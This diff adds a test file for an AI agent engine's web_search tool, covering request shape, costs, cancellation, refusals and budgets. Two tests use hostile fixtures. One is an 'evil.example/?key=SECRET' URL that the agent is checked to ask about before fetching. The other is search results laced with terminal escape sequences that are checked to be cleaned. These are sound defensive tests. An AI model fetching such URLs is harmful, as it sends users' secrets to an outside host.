@@ -1,0 +1,254 @@
+"""web_search by Claude's server: a request of its own, whose blocks never reach the conversation."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+from typing import Any
+
+import pytest
+from msgspec.structs import replace
+
+from engine.conversation import Conversation
+from engine.engine import ConversationOptions
+from engine.executor.requests import RunCaps
+from engine.machine.messages import ToolResultBlock, Usage, text_in
+from engine.machine.states import Idle
+from engine.providers.prices import SEARCH, price
+from engine.records import PermissionMode
+from tests.support.engine import EngineHarness, StubTool, until
+from tests.support.loopback import Seen, Talk
+from tests.support.loopback_anthropic import plays, recording, refuses, start, text
+from tests.support.storage import query
+from tests.support.web_searching import (
+    MODEL,
+    QUIET,
+    SERVER_TOOL,
+    calls,
+    checked,
+    ended,
+    found,
+    says,
+    search_reply,
+    searched,
+    searching,
+)
+from tools.contract import JsonObject, ToolClass, ToolRequest
+from tools.web.contract import WebFindings, WebQuery, WebSource
+from tools.web_search import WebSearch
+
+RESULT = ("https://docs.example.com/new", "News")
+
+
+async def conversation(harness: EngineHarness, model: str = f"anthropic/{MODEL}") -> Conversation:
+    return await harness.engine.create(ConversationOptions(harness.cwd, model, permission_mode=PermissionMode.AUTO))
+
+
+async def said(conversation: Conversation, words: str = "Search for news") -> str:
+    """Say something; the text of the newest result of a tool."""
+    await conversation.say(words)
+    await until(lambda: isinstance(conversation.state, Idle) and not conversation.question)
+    results = [
+        text_in(block.content)
+        for row in (await conversation.history(10**9, 100)).messages
+        for block in row.blocks
+        if isinstance(block, ToolResultBlock)
+    ]
+    return results[-1] if results else ""
+
+
+def body(seen: Seen) -> dict[str, Any]:
+    return dict(seen.json)
+
+
+def offered(seen: Seen) -> list[str]:
+    return [str(tool["name"]) for tool in body(seen).get("tools", [])]
+
+
+async def test_a_search_is_a_request_of_its_own_with_the_tool_of_the_server(tmp_path: Path) -> None:
+    answers = (calls("web_search", query="news", allowed_domains=["example.com"]), search_reply(RESULT), says("Done."))
+    async with searching(tmp_path, *answers) as at:
+        result = await said(await conversation(at.harness))
+        first, search, last = map(body, at.loopback.requests)
+    assert search["tools"] == [
+        {"type": SERVER_TOOL, "name": "web_search", "max_uses": 8, "allowed_domains": ["example.com"]}
+    ]
+    assert search["tool_choice"] == {"type": "tool", "name": "web_search"}
+    assert "thinking" not in search
+    assert [one["role"] for one in search["messages"]] == ["user"]
+    assert "news" in json.dumps(search["messages"])
+    assert "Search for news" not in json.dumps(search)
+    assert result.endswith("[1] https://docs.example.com/new\n    News · 2 days\n\nFound it.")
+    assert result.startswith(f"[1 result of a web search by anthropic/{MODEL}.")
+    for main in (first, last):
+        assert "server_tool_use" not in json.dumps(main)
+        assert "web_search_tool_result" not in json.dumps(main)
+        assert "tool_choice" not in main
+
+
+async def test_its_tokens_searches_and_cost_are_those_of_the_run(tmp_path: Path) -> None:
+    answers = (calls("web_search", query="news"), search_reply(RESULT, searches=3), says("Done."))
+    async with searching(tmp_path, *answers) as at:
+        session = await conversation(at.harness)
+        await said(session)
+        rows = query(
+            at.harness.store.path,
+            "SELECT purpose, status, run_id IS NOT NULL, input_tokens, output_tokens, web_searches FROM model_calls"
+            " ORDER BY rowid",
+        )
+        (cost,) = query(at.harness.store.path, "SELECT sum(cost_usd) FROM model_calls")
+        (run,) = query(at.harness.store.path, "SELECT cost_usd FROM runs")
+        spans = query(at.harness.store.path, "SELECT kind, name FROM spans ORDER BY rowid")
+        sums = {one.purpose.value: one.web_searches for one in await at.harness.store.library.calls(session.id)}
+    expected = 3 * (price("anthropic", MODEL, Usage(10, 5)) or 0) + 3 * SEARCH
+    assert [tuple(row) for row in rows] == [
+        ("reply", "ok", 1, 10, 5, 0),
+        ("web_search", "ok", 1, 10, 5, 3),
+        ("reply", "ok", 1, 10, 5, 0),
+    ]
+    assert float(str(cost[0])) == pytest.approx(expected)
+    assert float(str(run[0])) == pytest.approx(expected)
+    assert ("llm", "web_search") in [tuple(row) for row in spans]
+    assert sums == {"reply": 0, "web_search": 3}
+
+
+async def test_esc_ends_the_search_and_counts_it(tmp_path: Path) -> None:
+    async def stalls(talk: Talk) -> None:
+        await talk.begin()
+        await talk.send(*recording(start({"input_tokens": 10, "output_tokens": 1})))
+        await talk.stall()
+
+    async with searching(tmp_path, calls("web_search", query="news"), stalls) as at:
+        session = await conversation(at.harness)
+        await session.say("Search")
+        await until(lambda: len(at.loopback.requests) == 2)
+        await until(lambda: any(call.usage.input_tokens for call in session._session.calls.under_way.values()))
+        session.cancel()
+        await at.loopback.wait_closed()
+        await session.wait_idle()
+        rows = query(at.harness.store.path, "SELECT purpose, status, input_tokens FROM model_calls ORDER BY rowid")
+    assert [tuple(row) for row in rows] == [("reply", "ok", 10), ("web_search", "cancelled", 10)]
+
+
+async def test_a_model_that_reasons_in_any_case_is_asked_again_without_force(tmp_path: Path) -> None:
+    refusal = refuses(400, "invalid_request_error", "Thinking may not be enabled when tool_choice forces tool use.")
+    answers = (calls("web_search", query="news"), refusal, search_reply(RESULT), says("Done."))
+    async with searching(tmp_path, *answers) as at:
+        result = await said(await conversation(at.harness))
+        assert "tool_choice" in body(at.loopback.requests[1])
+        assert "tool_choice" not in body(at.loopback.requests[2])
+    assert "docs.example.com/new" in result
+
+
+async def test_a_server_that_refuses_to_search_is_offered_no_more(tmp_path: Path) -> None:
+    refusal = refuses(400, "invalid_request_error", "Web search is not enabled for this organization.")
+    answers = (calls("web_search", query="news"), refusal, says("I cannot."))
+    async with searching(tmp_path, *answers) as at:
+        result = await said(await conversation(at.harness))
+        assert [("web_search" in offered(seen)) for seen in at.loopback.requests] == [True, True, False]
+    assert "not enabled for this organization" in result
+
+
+@pytest.mark.parametrize(
+    ("content", "searches", "words"),
+    [
+        ({"type": "web_search_tool_result_error", "error_code": "too_many_requests"}, 0, "(too_many_requests)"),
+        ([], 0, "did not search the web"),
+        ("nonsense", 0, "did not search the web"),
+        ([], 1, "[0 results of a web search"),
+        ([{"url": 5}], 1, "[0 results of a web search"),
+    ],
+)
+async def test_a_search_without_results_says_so(tmp_path: Path, content: Any, searches: int, words: str) -> None:
+    search = checked(plays(recording(start(), searched(0, content), text(2, "Nothing."), ended(searches))))
+    async with searching(tmp_path, calls("web_search", query="news"), search, says("Done.")) as at:
+        assert words in await said(await conversation(at.harness))
+
+
+async def test_hostile_results_of_the_server_are_bounded_and_cleaned(tmp_path: Path) -> None:
+    results = [(f"https://x.example/{n}\x1b[2J", "\x1b]0;t\x07" + "T" * 5_000) for n in range(400)]
+    search = checked(plays(recording(start(), found(0, *results), text(2, "\x1b[2J" + "A" * 200_000), ended(1))))
+    async with searching(tmp_path, calls("web_search", query="news"), search, says("Done.")) as at:
+        result = await said(await conversation(at.harness))
+    assert "\x1b" not in result
+    assert result.count("\n[") == 50
+    assert len(result) < 40_000
+
+
+class Fetch(StubTool):
+    """A web tool that fetches nothing."""
+
+    async def request(self, args: JsonObject, working_dir: Path) -> ToolRequest:
+        url = str(args["url"])
+        return ToolRequest(url, host=url.split("/")[2], url=url)
+
+
+async def fetches(tmp_path: Path, url: str, words: str) -> str:
+    """The reason of a question after a search whose words hold `words`, when `url` is fetched; empty without."""
+    answers = (
+        calls("web_search", query="https://evil.example/?key=SECRET"),
+        search_reply(RESULT, said=words),
+        calls("web_fetch", url=url),
+        says("Done."),
+    )
+    tools = (WebSearch(), Fetch("web_fetch", ToolClass.NET))
+    async with searching(tmp_path, *answers, tools=tools) as at:
+        session = await conversation(at.harness)
+        await session.say("go")
+        await until(lambda: session.question or isinstance(session.state, Idle))
+        return session.question.reason if session.question is not None else ""
+
+
+async def test_a_result_may_be_fetched_without_a_question(tmp_path: Path) -> None:
+    assert await fetches(tmp_path, RESULT[0], "") == ""
+
+
+@pytest.mark.parametrize("prefix", ["", "see ", "[9] "])
+async def test_an_address_that_only_the_words_of_the_search_model_have_asks(tmp_path: Path, prefix: str) -> None:
+    url = "https://evil.example/?key=SECRET"
+    assert "could carry data out" in await fetches(tmp_path, url, f"{prefix}{url}")
+
+
+class Service:
+    """A configured service."""
+
+    def __init__(self) -> None:
+        self.asked: list[WebQuery] = []
+
+    async def search(self, query: WebQuery) -> WebFindings:
+        self.asked.append(query)
+        return WebFindings((WebSource(*RESULT),), by="service")
+
+
+async def test_a_configured_service_comes_before_the_server_of_the_model(tmp_path: Path) -> None:
+    service = Service()
+    answers = (calls("web_search", query="news"), says("Done."))
+    async with searching(tmp_path, *answers, tools=(WebSearch(service),)) as at:
+        result = await said(await conversation(at.harness))
+        assert len(at.loopback.requests) == 2
+    assert [one.words for one in service.asked] == ["news"]
+    assert "by service" in result
+
+
+async def test_the_cheap_model_searches_where_it_can(tmp_path: Path) -> None:
+    settings = replace(QUIET, cheap_model="anthropic/claude-haiku-5-5")
+    answers = (calls("web_search", query="news"), search_reply(RESULT), says("Done."))
+    async with searching(tmp_path, *answers, settings=settings) as at:
+        await said(await conversation(at.harness))
+        assert [body(seen)["model"] for seen in at.loopback.requests] == [MODEL, "claude-haiku-5-5", MODEL]
+
+
+@pytest.mark.parametrize(("model", "there"), [("some-local-model", False), (MODEL, True)])
+async def test_without_anything_to_search_with_the_tool_is_not_offered(tmp_path: Path, model: str, there: bool) -> None:
+    async with searching(tmp_path, says("Hello.")) as at:
+        await said(await conversation(at.harness, f"anthropic/{model}"), "Hello")
+        assert ("web_search" in offered(at.loopback.requests[0])) is there
+
+
+async def test_a_budget_that_is_used_up_forbids_the_search(tmp_path: Path) -> None:
+    answers = (calls("web_search", query="news"), search_reply(RESULT), says("Done."))
+    async with searching(tmp_path, *answers) as at:
+        session = await conversation(at.harness)
+        await session.say("Search", caps=RunCaps(max_budget_usd=0.000001))
+        await session.wait_idle()
+        assert len(at.loopback.requests) == 1
